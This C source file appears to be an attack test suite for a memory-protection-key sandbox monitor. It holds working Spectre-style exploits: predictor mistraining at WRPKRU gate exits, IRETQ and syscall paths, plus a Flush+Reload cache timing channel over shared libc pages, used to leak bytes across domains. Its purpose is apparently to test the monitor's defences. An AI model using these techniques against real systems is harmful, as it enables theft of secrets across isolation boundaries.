/*
 * Reads what a processor reads ahead of a check that is going to fail (row 31 of the threats). One domain is the thief,
 * which is torn down for it; another is the watcher. A byte is passed on by which line of libc's text is in a cache:
 * domains share those pages.
 */
#include "protect/gate/gate.h"
#include "protect/rewrite/shortcut.h"
#include "worker/base/ops.h"
#include "worker/test/attack/attack.h"
#include <errno.h>
#include <link.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <x86intrin.h>

#define LINES     256
#define PAGE      4096
#define LINE_AT   0xb80 /* in its page: not where code runs all the time */
#define SCATTER   167   /* visits the lines in an order that no prefetcher knows */
#define TRAININGS 12
#define PAUSE     100 /* branches that leave the same history before each try */
#define JUMPS     20000
#define TRIES     16          /* every other one trains */
#define HUGE      (2ul << 20) /* a large page */
#define FAR       (8ul << 20) /* of memory: more than what one processor keeps for itself */

extern const char attack_gadget[] __attribute__((visibility("hidden")));
extern const char attack_taught[] __attribute__((visibility("hidden")));

static const volatile uint8_t *lines;
uint64_t taught[3] __attribute__((visibility("hidden")));
static volatile uint8_t others[2 * FAR] __attribute__((aligned(HUGE)));
static uint8_t decoy[PAGE] __attribute__((aligned(PAGE)));
static uint64_t blocks[2][NW_ALT_SIZE / sizeof(uint64_t)] __attribute__((aligned(NW_ALT_SIZE)));

/* Touches the line that the byte at RSI names, and goes back. Nothing but RSI, RDI and R8 must be what it was. */
__asm__(".text\n"
        ".balign 64\n"
        "attack_gadget:\n\t"
        "movzbl (%rsi), %eax\n\t"
        "shlq $12, %rax\n\t"
        "movzbl (%rdi,%rax), %eax\n\t"
        "jmp *%r8\n"
        /* The same with nothing in registers: from, to which lines, and where to go on. */
        ".balign 64\n"
        "attack_taught:\n\t"
        "movq taught(%rip), %rsi\n\t"
        "movq taught+8(%rip), %rdi\n\t"
        "movzbl (%rsi), %eax\n\t"
        "shlq $12, %rax\n\t"
        "movzbl (%rdi,%rax), %eax\n\t"
        "jmp *taught+16(%rip)\n");

static int find(struct dl_phdr_info *info, size_t size, void *unused)
{
    (void)size;
    (void)unused;
    if (!strstr(info->dlpi_name, "/libc.so"))
        return 0;
    for (int i = 0; i < info->dlpi_phnum; i++)
        if (info->dlpi_phdr[i].p_type == PT_LOAD && info->dlpi_phdr[i].p_flags & PF_X)
            lines = (const uint8_t *)info->dlpi_addr + info->dlpi_phdr[i].p_vaddr + LINE_AT;
    return 1;
}

static const volatile uint8_t *line(int i)
{
    return lines + PAGE * (long)((i * SCATTER) % LINES);
}

static void flush_lines(void)
{
    dl_iterate_phdr(find, NULL);
    for (int i = 0; i < LINES; i++)
        (void)*line(i);
    for (int i = 0; i < LINES; i++)
        _mm_clflush((const void *)(uintptr_t)line(i));
    _mm_mfence();
}

static const char *try_flush(struct attacker *a)
{
    (void)a;
    flush_lines();
    return "flushed";
}

/* The ticks that each line takes, in hex. */
static const char *try_look(struct attacker *a)
{
    static char text[8 * LINES];
    uint32_t took[LINES];
    unsigned unused;
    int length = 0;

    dl_iterate_phdr(find, NULL);
    for (int i = 0; i < LINES; i++) {
        const volatile uint8_t *at = line(i);
        uint64_t start = __rdtscp(&unused);

        (void)*at;
        took[(i * SCATTER) % LINES] = (uint32_t)(__rdtscp(&unused) - start);
    }
    for (int i = 0; i < LINES; i++)
        length += snprintf(text + length, sizeof(text) - (size_t)length, "%x ", took[i] & 0xffff);
    a->append(a->context, text, (size_t)length);
    return NULL;
}

static uint64_t page(void)
{
    uint64_t at;

    __asm__ volatile("rdgsbase %0" : "=r"(at));
    return at;
}

static uint32_t own_rights(void)
{
    uint32_t low, high;

    __asm__ volatile("rdpkru" : "=a"(low), "=d"(high) : "c"(0));
    return low;
}

/* To a WRPKRU of the gate, as if it were on its way out to the gadget: by RCX from the stack, or by RET. */
static void leave(uint64_t code, uint32_t rights, const uint8_t *from)
{
    static uint64_t stack[64], saved;

    stack[32 + 6] = (uint64_t)attack_gadget;
    __asm__ volatile("pushq %%rbx; pushq %%rbp; pushq %%r12; pushq %%r13; pushq %%r14; pushq %%r15\n\t"
                     "movq %%rsp, %[saved]\n\t"
                     ".rept 32\n\t" /* fills the predictor of RET */
                     "call 2f\n\t"
                     "movzbl (%%rsi), %%eax; shlq $12, %%rax; movzbl (%%rdi,%%rax), %%eax\n\t"
                     "3: pause; jmp 3b\n\t"
                     "2: addq $8, %%rsp\n\t"
                     ".endr\n\t"
                     "leaq 1f(%%rip), %%r8\n\t"
                     "movq %[stack], %%rsp\n\t"
                     "movl %[rights], %%eax; movq %[code], %%r11; xorl %%ecx, %%ecx; xorl %%edx, %%edx\n\t"
                     "jmp *%%r11\n"
                     "1: movq %[saved], %%rsp\n\t"
                     "popq %%r15; popq %%r14; popq %%r13; popq %%r12; popq %%rbp; popq %%rbx"
                     : [saved] "+m"(saved)
                     : [stack] "r"(stack + 32), [rights] "r"(rights), [code] "r"(code), "S"(from), "D"(lines)
                     : "rax", "rcx", "rdx", "r8", "r9", "r10", "r11", "memory", "cc");
}

/* Passes the way out with its own rights until the processor predicts that the check succeeds, then with all rights;
 * no branch in between tells the two apart. What the check compares with must come from memory. A thread that is
 * preempted there starts the way out again with its true rights, so a try that was lost is made once more. */
static void steal(void (*go)(uint64_t code, uint32_t rights, const uint8_t *from), uint64_t code, const uint8_t *secret,
                  int trainings)
{
    const uint64_t at = page(), own = own_rights();

    flush_lines();
    for (volatile int i = 0;; i++) {
        uint64_t now = -(uint64_t)(i >= trainings);

        _mm_clflush((const void *)at);
        _mm_mfence();
        for (volatile int k = 0; k < PAUSE; k++)
            ;
        go(code, (uint32_t)(own & ~now), (const uint8_t *)(((uint64_t)decoy & ~now) | ((uint64_t)secret & now)));
    }
}

/* Arguments: where the WRPKRU of the call's way out is, counted from the gate; not 0: only what a decoy leaves. */
static const char *try_exit(struct attacker *a)
{
    steal(leave, attack_gate + a->arg[1], a->arg[2] ? decoy : (const uint8_t *)a->arg[0], TRAININGS);
    return "went on";
}

/* The same where a system call with the domain's rights ends, which none but the monitor may train. */
static const char *try_ret(struct attacker *a)
{
    steal(leave, attack_gate + a->arg[1], a->arg[2] ? decoy : (const uint8_t *)a->arg[0], 0);
    return "went on";
}

/* The same, where every register is restored. The gadget is where IRETQ goes. */
static void leave_whole(uint64_t code, uint32_t rights, const uint8_t *from)
{
    enum { R8 = 7, RDI = 9, RSI, RIP = 15, CS, FLAGS, RSP, SS };
    static uint64_t stack[64], saved;

    stack[RDI] = (uint64_t)lines;
    stack[RSI] = (uint64_t)from;
    stack[RIP] = (uint64_t)attack_gadget;
    stack[RSP] = (uint64_t)(stack + 60);
    __asm__ volatile("pushq %%rbx; pushq %%rbp; pushq %%r12; pushq %%r13; pushq %%r14; pushq %%r15\n\t"
                     "movq %%rsp, %[saved]\n\t"
                     "leaq 1f(%%rip), %%r8; movq %%r8, %c[r8](%[stack])\n\t"
                     "xorl %%eax, %%eax; movl %%cs, %%eax; movq %%rax, %c[cs](%[stack])\n\t"
                     "movl %%ss, %%eax; movq %%rax, %c[ss](%[stack])\n\t"
                     "pushfq; popq %c[flags](%[stack])\n\t"
                     "movq %[stack], %%rsp\n\t"
                     "movl %[rights], %%eax; movq %[code], %%r11; xorl %%ecx, %%ecx; xorl %%edx, %%edx\n\t"
                     "jmp *%%r11\n"
                     "1: movq %[saved], %%rsp\n\t"
                     "popq %%r15; popq %%r14; popq %%r13; popq %%r12; popq %%rbp; popq %%rbx"
                     : [saved] "+m"(saved)
                     : [stack] "S"(stack), [rights] "D"(rights), [code] "r"(code), [r8] "i"(8 * R8), [cs] "i"(8 * CS),
                       [flags] "i"(8 * FLAGS), [ss] "i"(8 * SS)
                     : "rax", "rcx", "rdx", "r8", "r9", "r10", "r11", "memory", "cc");
}

static const char *try_whole(struct attacker *a)
{
    steal(leave_whole, attack_gate + a->arg[1], a->arg[2] ? decoy : (const uint8_t *)a->arg[0], TRAININGS);
    return "went on";
}

/* A secret that leads to a line as a record of a thread leads to its frame, at the start of a block like that of an
 * alternate stack; and as the header of a message leads to its address. Argument 1: which line. Says where the block
 * is. */
static const char *try_hold(struct attacker *a)
{
    flush_lines();
    blocks[0][0] = (uint64_t)lines + PAGE * a->arg[1] - NW_THREAD_FRAME;
    blocks[0][1] = NW_THREAD_FRAME + sizeof(uint32_t); /* how long an address; the line is where it ends */
    return attack_say(a, "%lx", (uint64_t)blocks[0]);
}

/* Its page is known to the processor then, its line is not. */
static const char *try_touch(struct attacker *a)
{
    const volatile uint64_t *secret = blocks[0];

    (void)a;
    (void)*(const volatile uint8_t *)(*secret + NW_THREAD_FRAME - LINE_AT / 2);
    return "touched";
}

/* What the monitor compares with is far away then. */
static const char *try_evict(struct attacker *a)
{
    (void)a;
    for (size_t i = 0; i < FAR; i += 64)
        others[i]++;
    return "evicted";
}

/* To where a signal enters, with RSP in such a block. Argument 1: where that is, counted from the gate; not 0 as
 * argument 2: only what a decoy leaves. */
static const char *try_frame(struct attacker *a)
{
    uint64_t rsp = a->arg[2] ? (uint64_t)blocks[1] : a->arg[0];

    flush_lines();
    *(volatile uint64_t *)blocks[1] = (uint64_t)lines - NW_THREAD_FRAME;
    _mm_mfence();
    __asm__ volatile("movq %0, %%rsp; jmp *%1" : : "r"(rsp + NW_ALT_SIZE / 2), "r"(attack_gate + a->arg[1]));
    return NULL;
}

/* Teaches a jump of the monitor, with rights of its own, to go to the gadget, whatever register it takes. */
static void teach(uint64_t jump)
{
    static uint64_t saved;

    __asm__ volatile("pushq %%rbx; pushq %%rbp; pushq %%r12; pushq %%r13; pushq %%r14; pushq %%r15\n\t"
                     "movq %%rsp, %[saved]\n\t"
                     "leaq 1f(%%rip), %%rax; movq %%rax, taught+16(%%rip)\n\t"
                     "leaq attack_taught(%%rip), %%rax\n\t"
                     ".irp r, rbx,rcx,rdx,rbp,r8,r9,r10,r11,r12,r13,r14,r15; movq %%rax, %%\\r; .endr\n\t"
                     "jmp *%%rsi\n"
                     "1: movq %[saved], %%rsp\n\t"
                     "popq %%r15; popq %%r14; popq %%r13; popq %%r12; popq %%rbp; popq %%rbx"
                     : [saved] "+m"(saved), "+S"(jump)
                     :
                     : "rax", "rcx", "rdx", "rdi", "r8", "r9", "r10", "r11", "memory", "cc");
}

static unsigned chance(void)
{
    static uint64_t x = 88172645463325252ull;

    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    return (unsigned)(x >> 32);
}

static void one_way(volatile unsigned *n)
{
    *n += 1;
}

static void another_way(volatile unsigned *n)
{
    *n += 2;
}

/* Makes the processor forget which way led to which jump: then it goes where the same jump went last. */
static void confuse(void)
{
    static void (*const ways[])(volatile unsigned *n) = {one_way, another_way};
    static volatile unsigned n;

    for (int i = 0; i < JUMPS; i++) {
        unsigned bits = chance();

        for (int k = 1; k < 9; k++)
            if (bits >> k & 1)
                n++;
        ways[bits & 1](&n);
    }
}

/* Argument 1: where the monitor jumps to what answers a system call, counted from the gate; 2: only what a decoy
 * leaves. */
static const char *try_taught(struct attacker *a)
{
    const struct nw_shortcut_call call = {.number = SYS_getpgrp};

    flush_lines();
    taught[1] = (uint64_t)lines;
    taught[0] = (uint64_t)decoy;
    confuse();
    for (volatile int i = 0; i < TRAININGS; i++)
        teach(attack_gate + a->arg[1]);
    taught[0] = a->arg[2] ? (uint64_t)decoy : a->arg[0];
    _mm_mfence();
    attack_gate_call(NW_OP_SYSCALL, (uint64_t)&call, 0, 0, 0);
    return "went on";
}

/* Evicts only what lies at this place of a page. It uses few large pages, so that translations of other addresses
 * stay cached. */
static void evict_place(uint64_t place)
{
    if (!others[place % PAGE])
        madvise((void *)(uintptr_t)others, sizeof(others), MADV_HUGEPAGE);
    for (size_t i = place % PAGE; i < sizeof(others); i += PAGE)
        others[i] |= 1;
}

static long send_message(uint64_t header)
{
    long result = SYS_sendmsg;

    _mm_prefetch((const void *)header, _MM_HINT_T0); /* so that the processor knows where its page is */
    for (volatile int k = 0; k < PAUSE; k++)
        ;
    __asm__ volatile("syscall" : "+a"(result) : "D"(-1l), "S"(header), "d"(0l) : "rcx", "r11", "memory");
    return result;
}

/* Sends messages whose headers are its own and, in turn, a neighbour's, which begins with a pointer: the monitor
 * follows it for the address, and does so before it looks for the socket, so there is none. Argument 1: the place in a
 * page of what the monitor compares the header's place with; not 0 as argument 2: all are its own. */
static const char *try_message(struct attacker *a)
{
    static const struct sockaddr address = {.sa_family = AF_UNSPEC};
    static const struct msghdr own = {.msg_name = (void *)(uintptr_t)&address, .msg_namelen = sizeof(address)};
    const uint64_t headers[2] = {(uint64_t)&own, a->arg[2] ? (uint64_t)&own : a->arg[0]};
    long result = 0;

    flush_lines();
    for (volatile unsigned i = 0; i < TRIES; i++) {
        evict_place(a->arg[1]);
        _mm_mfence();
        result = send_message(headers[i % 2]);
    }
    return result == (a->arg[2] ? -EAFNOSUPPORT : -EFAULT) ? "went on" : "was not refused";
}

const struct attack attacks[] = {
    {"flush", try_flush}, {"look", try_look},   {"exit", try_exit},       {"ret", try_ret},
    {"whole", try_whole}, {"hold", try_hold},   {"taught", try_taught},   {"touch", try_touch},
    {"evict", try_evict}, {"frame", try_frame}, {"message", try_message}, {0},
};
